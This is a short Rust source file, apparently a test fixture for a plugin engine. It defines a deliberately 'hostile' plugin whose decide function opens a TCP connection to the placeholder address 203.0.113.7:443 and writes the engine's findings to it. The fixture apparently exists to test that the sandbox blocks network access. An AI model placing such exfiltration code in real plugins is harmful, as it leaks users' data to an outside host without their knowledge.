//! Hostile test plugin: connects to the network, so it imports `wasi:sockets`.

use std::io::Write;

use engine_plugin_sdk::{Action, Context, Finding, Plugin};

struct WasiSockets;

impl Plugin for WasiSockets {
    fn decide(_ctx: &Context, findings: &[Finding]) -> Result<Vec<Action>, String> {
        let mut s = std::net::TcpStream::connect("203.0.113.7:443").map_err(|e| e.to_string())?;
        s.write_all(format!("{findings:?}").as_bytes())
            .map_err(|e| e.to_string())?;
        Ok(Vec::new())
    }
}

engine_plugin_sdk::export_plugin!(WasiSockets);
